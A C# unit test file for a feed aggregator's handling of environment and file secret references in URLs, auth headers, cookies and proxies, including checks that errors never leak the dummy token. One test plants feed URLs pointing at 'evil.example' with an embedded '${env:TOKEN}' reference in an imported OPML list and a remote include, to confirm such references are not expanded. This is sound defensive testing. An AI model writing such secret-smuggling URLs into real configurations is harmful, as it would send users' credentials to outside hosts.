using System.Collections;
using Aggregator.Configuration;

namespace Aggregator.Tests.Configuration.Lists;

public sealed class SecretTests : IDisposable
{
    private static readonly Hashtable Environment = new() { ["TOKEN"] = "hunter2", ["USER_NAME"] = "me" };
    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void References_stand_anywhere_in_a_secret()
    {
        _folder.Write("key.txt", "abc\n");
        var feed = Load("- {url: https://example.org/, auth: {bearer: 'x-${env:TOKEN}'}, headers: {Cookie: 'u=${env:USER_NAME}; k=${file:key.txt}'}, proxy: 'http://u:${env:TOKEN}@p.example'}").Feeds[0];
        Assert.Equal(("Bearer x-hunter2", "u=me; k=abc", "http://u:hunter2@p.example"), (feed.Authorization, feed.Headers["cookie"], feed.Proxy));
        Assert.Equal([Path.Combine(_folder.Path, "key.txt")], Load("- {url: https://example.org/, auth: {bearer: '${file:key.txt}'}}").SecretFiles);
    }

    [Fact]
    public void A_url_with_a_reference_is_known_by_what_is_written()
    {
        var feed = Load("- 'https://example.org/feed?key=${env:TOKEN}&a=1'").Feeds[0];
        Assert.Equal(("https://example.org/feed?key=${env:TOKEN}&a=1", "https://example.org/feed?key=hunter2&a=1"), (feed.Url, feed.RequestUrl));
        Assert.DoesNotContain("hunter2", feed.ToString(), StringComparison.Ordinal);
        Assert.True(FeedSettings.IsSecret(Assert.Single(FeedSettings.Of(feed)).Key));
    }

    [Theory]
    [InlineData("- {url: https://example.org/, auth: {bearer: '${env:NOWHERE}'}}", "1:51: auth bearer: the environment variable NOWHERE is not set")]
    [InlineData("- {url: https://example.org/, auth: {bearer: '${env:TOKEN'}}", "a reference is written ${env:NAME} or ${file:PATH}")]
    [InlineData("- {url: https://example.org/, auth: {bearer: '${env:TOKEN}${key:A}'}}", "a reference is written ${env:NAME} or ${file:PATH}")]
    [InlineData("- {url: https://example.org/, headers: {X: '${file:none}'}}", "none does not exist")]
    [InlineData("- 'https://${env:TOKEN}.example.org/'", "is not a valid URL")]
    [InlineData("- 'https://example.org/${env:NOWHERE}'", "the environment variable NOWHERE is not set")]
    public void A_reference_that_leads_nowhere_is_an_error_without_a_secret(string list, string message)
    {
        _folder.Write("list.yaml", $"feeds: [{list[2..]}]");
        var errors = string.Join('\n', Assert.IsType<CatalogOutcome.Rejected>(CatalogLoader.Load(_folder.Path, Crons.Reader, Environment)).Errors);
        Assert.Contains(message.StartsWith("1:", StringComparison.Ordinal) ? message[message.IndexOf(' ', StringComparison.Ordinal)..] : message, errors, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", errors, StringComparison.Ordinal);
    }

    [Fact]
    public void A_list_of_another_program_refers_to_nothing_of_ours()
    {
        _folder.Write("list.opml", "<opml><body><outline xmlUrl='https://evil.example/?${env:TOKEN}'/></body></opml>");
        var feed = Assert.IsType<CatalogOutcome.Loaded>(CatalogLoader.Load(_folder.Path, Crons.Reader, Environment)).Catalog.Feeds[0];
        Assert.Equal(("https://evil.example/?%24%7Benv:TOKEN}", null), (feed.Url, feed.RequestUrl));

        var remote = new IncludeCache(Path.Combine(_folder.Path, ".copies"));
        remote.Store(new IncludeCopy("https://remote.example/", default, null, null, null), "feeds: ['https://evil.example/?${env:TOKEN}']"u8.ToArray());
        _folder.Delete("list.opml");
        _folder.Write("list.yaml", "include: https://remote.example/");
        feed = Assert.IsType<CatalogOutcome.Loaded>(CatalogLoader.Load(_folder.Path, Crons.Reader, Environment, remote)).Catalog.Feeds[0];
        Assert.Null(feed.RequestUrl);
    }

    [Fact]
    public void A_rotated_file_changes_the_signature()
    {
        var file = _folder.Write(".key", "one");
        var before = FolderSignature.Of(_folder.Path, [file]);
        File.SetLastWriteTimeUtc(_folder.Write(".key", "two"), new DateTime(2031, 1, 1, 0, 0, 0, DateTimeKind.Utc));
        Assert.NotEqual(before, FolderSignature.Of(_folder.Path, [file]));
    }

    private Catalog Load(string list)
    {
        _folder.Write("list.yaml", $"feeds:\n  {list}\n");
        var outcome = CatalogLoader.Load(_folder.Path, Crons.Reader, Environment);
        Assert.Empty((outcome as CatalogOutcome.Rejected)?.Errors ?? []);
        return ((CatalogOutcome.Loaded)outcome).Catalog;
    }
}
